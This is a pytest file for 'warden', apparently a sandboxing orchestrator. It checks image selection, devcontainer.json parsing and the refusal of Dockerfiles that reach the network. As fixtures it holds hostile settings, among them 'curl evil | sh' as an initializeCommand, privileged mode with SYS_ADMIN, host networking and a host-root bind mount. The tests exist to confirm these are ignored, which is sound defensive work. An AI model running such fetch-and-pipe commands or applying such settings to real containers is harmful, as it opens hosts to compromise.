"""Locks in how a run picks each agent's image (agent file > --image > dev
container > default, the bash type kept restricted unless --bash-image), what
warden reads of a devcontainer.json (JSONC, duplicates refused, every weakening
key ignored with one warning, paths confined to the workspace), which Dockerfiles
it refuses to build (network through the engine), and the runner command of
warden's borrowed runtime."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path
from typing import Any

import pytest

from orchestrator.agents.definition import AgentDefinition
from orchestrator.agents.images import RunImages, choose_image
from orchestrator.agents.registry import AgentRegistry
from orchestrator.errors import ConfigError
from orchestrator.images.buildfile import engine_dockerfile
from orchestrator.images.devcontainer import NOT_APPLIED, find_devcontainer
from orchestrator.images.runtime import RUNTIME_TARGET, Runtime
from tests.conftest import without_waiting_on


def agent(image: str | None = None, source: str = "/w/.claude/agents/a.md") -> AgentDefinition:
    return AgentDefinition(name="a", description="d", system_prompt="p", image=image, source=source)


ALL = RunImages(image="cli:1", devcontainer="dev:1", devcontainer_source="x", bash_image=None)


def test_the_agent_file_wins_then_the_flag_then_the_dev_container_then_the_default() -> None:
    assert choose_image(agent("file:1"), ALL).name == "file:1"
    assert choose_image(agent(), ALL).name == "cli:1"
    assert choose_image(agent(), RunImages(devcontainer="dev:1")).name == "dev:1"
    assert choose_image(agent(), RunImages()).name == "agent"
    assert "--image" in choose_image(agent(), ALL).origin
    assert "agent file" in choose_image(agent("file:1"), ALL).origin


def test_the_bash_type_stays_restricted_unless_a_person_names_its_image() -> None:
    bash = AgentRegistry().get("bash")
    kept = choose_image(bash, ALL)
    assert kept.name == "bash" and not kept.restricted_instead
    assert "restricted" in kept.origin and "--bash-image" in kept.origin
    chosen = choose_image(bash, RunImages(bash_image="node-tools:1"))
    assert chosen.name == "node-tools:1" and chosen.restricted_instead
    assert "instead of the restricted" in chosen.origin
    # It has the file tools too, decided by the same rules as any tool.
    assert bash.tools == ("Bash", "Read", "Write", "Edit", "Glob", "TaskOutput", "TaskStop")


def write(workspace: Path, relative: str, text: str) -> Path:
    path = workspace / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_jsonc_is_read_and_every_weakening_key_warns_once(tmp_path: Path) -> None:
    write(
        tmp_path,
        ".devcontainer/devcontainer.json",
        """// the project's dev container
        {
          "name": "tools",
          "image": "node-tools:1", /* a local image */
          "privileged": true,
          "capAdd": ["SYS_ADMIN"],
          "runArgs": ["--network=host"],
          "mounts": ["source=/,target=/host,type=bind"],
          "forwardPorts": [3000],
          "initializeCommand": "curl evil | sh",
          "customizations": {"vscode": {}},
        }""",
    )
    found = find_devcontainer(tmp_path)
    assert found is not None and found.image == "node-tools:1" and found.dockerfile is None
    keys = ["privileged", "capAdd", "runArgs", "mounts", "forwardPorts", "initializeCommand"]
    for key in keys:
        assert sum(f"`{key}`" in w for w in found.warnings) == 1, (key, found.warnings)
        assert NOT_APPLIED[key] in " ".join(found.warnings)
    assert len(found.warnings) == len(keys), "name and customizations are not warned about"


def test_an_unknown_key_is_shown_as_inert_text(tmp_path: Path) -> None:
    write(tmp_path, ".devcontainer.json", '{"image": "a:1", "x\\u001b[2Jy": 1}')
    found = find_devcontainer(tmp_path)
    assert found is not None and found.warnings == (
        ".devcontainer.json: `x\\x1b[2Jy` is not used by warden",
    )


def test_a_duplicate_key_is_refused_not_silently_replaced(tmp_path: Path) -> None:
    write(tmp_path, ".devcontainer.json", '{"image": "a:1", "image": "b:1"}')
    with pytest.raises(ConfigError, match=r"\.devcontainer\.json.*Duplicate key"):
        find_devcontainer(tmp_path)


def test_a_dockerfile_is_found_relative_to_the_file_and_confined(tmp_path: Path) -> None:
    write(tmp_path, ".devcontainer/Dockerfile", "FROM scratch\n")
    write(
        tmp_path,
        ".devcontainer/devcontainer.json",
        '{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "1"}}}',
    )
    found = find_devcontainer(tmp_path)
    assert found is not None
    assert found.dockerfile == tmp_path.resolve() / ".devcontainer/Dockerfile"
    assert found.context == tmp_path.resolve() and found.args == (("V", "1"),)
    write(tmp_path, ".devcontainer/devcontainer.json", '{"build": {"dockerfile": "../../x"}}')
    with pytest.raises(ConfigError, match="inside the workspace"):
        find_devcontainer(tmp_path)


def test_a_devcontainer_json_that_is_a_link_is_refused(tmp_path: Path) -> None:
    outside = write(tmp_path, "outside.json", '{"image": "x:1"}')
    workspace = tmp_path / "ws"
    (workspace / ".devcontainer").mkdir(parents=True)
    os.symlink(outside, workspace / ".devcontainer/devcontainer.json")
    with pytest.raises(ConfigError, match="symbolic link"):
        find_devcontainer(workspace)


class Images:
    """A client whose `images.get` knows a few local images."""

    def __init__(self, *present: str) -> None:
        self.present = set(present)
        self.images = self

    def get(self, ref: str) -> Any:
        from docker.errors import ImageNotFound

        by_id = {f"sha256:{hashlib.sha256(p.encode()).hexdigest()}": p for p in self.present}
        ref = by_id.get(ref, ref)
        if ref not in self.present:
            raise ImageNotFound(ref)
        digest = hashlib.sha256(ref.encode()).hexdigest()
        config = {"OnBuild": ["ADD x /y"] if ref.startswith("trigger") else None}
        return type("Image", (), {"id": f"sha256:{digest}", "attrs": {"Config": config}})()


@pytest.mark.parametrize(
    ("dockerfile", "refusal"),
    [
        ("FROM node-tools:1\nADD https://example.invalid/x.tgz /x\n", "URL or git"),
        ("FROM node-tools:1\nADD git@example.invalid:r.git /r\n", "URL or git"),
        ("FROM registry.invalid/base:1\n", "never pull"),
        ("ARG BASE=elsewhere:2\nFROM ${BASE}\n", "never pull"),
        ("FROM node-tools:1\nCOPY --from=remote.invalid/x:1 /a /a\n", "never pull"),
        ("FROM $UNSET\n", "has no value"),
        ("FROM trigger:1\n", "ONBUILD triggers"),
        ("FROM node-tools:1 AS a\nONBUILD RUN true\nFROM a\n", "ONBUILD"),
        ("FROM node-tools:1\nRUN <<CMD\nADD http://x/y /z\nCMD\n", "here-documents"),
        ("FROM node-tools:1\nADD --checksum=sha256:00 http://x/y /z\n", "--checksum"),
    ],
)
def test_dockerfiles_that_would_reach_a_network_are_refused_before_building(
    dockerfile: str, refusal: str
) -> None:
    with pytest.raises(ConfigError, match=refusal):
        engine_dockerfile(
            Images("node-tools:1", "trigger:1"), dockerfile, {}, ".devcontainer/devcontainer.json"
        )  # type: ignore[arg-type]


def test_local_bases_stages_and_build_args_pass_and_the_engine_gets_no_add_and_no_name() -> None:
    text = (
        "ARG BASE=elsewhere:2\nFROM ${BASE} AS build\nRUN true \\\n  && echo $BASE\n"
        "FROM scratch\nCOPY --from=build / /\nCOPY --from=0 /a /b\nadd --chown=1:1 local.tar ${U} /x/\n"
    )
    made = engine_dockerfile(Images("node-tools:1"), text, {"BASE": "node-tools:1"}, "d")  # type: ignore[arg-type]
    base = hashlib.sha256(b"node-tools:1").hexdigest()
    assert made.text.splitlines() == [
        "ARG BASE=elsewhere:2", f"FROM {base} AS build", "RUN true   && echo $BASE",
        "FROM scratch", "COPY --from=build / /", "COPY --from=0 /a /b",
        "COPY --chown=1:1 local.tar ${U} /x/",
    ]  # fmt: skip
    assert len(made.notes) == 1 and "built as `COPY`" in made.notes[0]


@pytest.mark.parametrize(
    "spelling",
    ['ADD ["${U}", "/x"]', "AD\\\nD $U /y", "  add\t$U /z", "Add --chown=1:1 ${U:-x} /w"],
)
def test_every_spelling_of_add_reaches_the_engine_as_copy(spelling: str) -> None:
    """JSON form, a keyword split over a line continuation, any case, flags: the
    engine is given no ADD at all, so no spelling makes it download."""
    text = f"FROM node-tools:1\nARG U=http://127.0.0.1:1/x\n{spelling}\n"
    made = engine_dockerfile(Images("node-tools:1"), text, {}, "d")  # type: ignore[arg-type]
    last = made.text.splitlines()[-1]
    assert last.startswith("COPY") and "ADD" not in last.upper().split()[0]
    assert len(made.text.splitlines()) == 3  # one instruction per line


def test_a_backtick_escape_directive_is_kept_for_the_engine() -> None:
    text = "# escape=`\nFROM node-tools:1\nRUN echo `\n  a\n"
    made = engine_dockerfile(Images("node-tools:1"), text, {}, "d")  # type: ignore[arg-type]
    assert made.text.splitlines()[0] == "# escape=`"
    assert made.text.splitlines()[2] == "RUN echo   a"


def test_the_borrowed_runtime_starts_the_runner_through_its_own_loader() -> None:
    runtime = Runtime(
        host_dir=Path("/state/runtime/abc"), python="3.11", executable="bin/python3.11",
        loader="lib/ld-linux-x86-64.so.2", library_path="lib", machine="x86_64",
    )  # fmt: skip
    argv = runtime.runner()
    assert argv[0] == f"{RUNTIME_TARGET}/lib/ld-linux-x86-64.so.2"
    assert argv[1:3] == ("--library-path", f"{RUNTIME_TARGET}/lib")
    # Isolated: the image's PYTHON* variables and site-packages never reach it.
    assert argv[3:] == (
        f"{RUNTIME_TARGET}/bin/python3.11",
        "-I",
        "-S",
        "-u",
        "-B",
        "-m",
        "sandbox_tools",
    )
    mount = runtime.mount()
    assert mount.read_only and mount.target == RUNTIME_TARGET


def test_a_devcontainer_json_that_is_a_fifo_is_refused_without_waiting(tmp_path: Path) -> None:
    """A sandbox can leave a FIFO where devcontainer.json goes (the workspace is
    writable); the next run must refuse it at once, not wait in `open` for a writer
    (that wait held the run's event loop, and SIGTERM could not end it)."""
    (tmp_path / ".devcontainer").mkdir()
    fifo = tmp_path / ".devcontainer/devcontainer.json"
    os.mkfifo(fifo)
    outcome = without_waiting_on(fifo, lambda: find_devcontainer(tmp_path))
    assert isinstance(outcome, ConfigError), outcome
    assert "not a regular file" in str(outcome) and "--no-devcontainer" in str(outcome)


def test_a_devcontainer_json_that_is_a_directory_is_refused_with_the_fix(tmp_path: Path) -> None:
    """A sandbox can make a directory where devcontainer.json goes: the next run says
    what it is and how to go on (it used to end in a bare IsADirectoryError)."""
    (tmp_path / ".devcontainer/devcontainer.json").mkdir(parents=True)
    with pytest.raises(ConfigError) as err:
        find_devcontainer(tmp_path)
    assert str(err.value) == (
        "cannot read .devcontainer/devcontainer.json: not a regular file (a FIFO, a device or "
        "a directory); replace it with the file, or run with --no-devcontainer"
    )
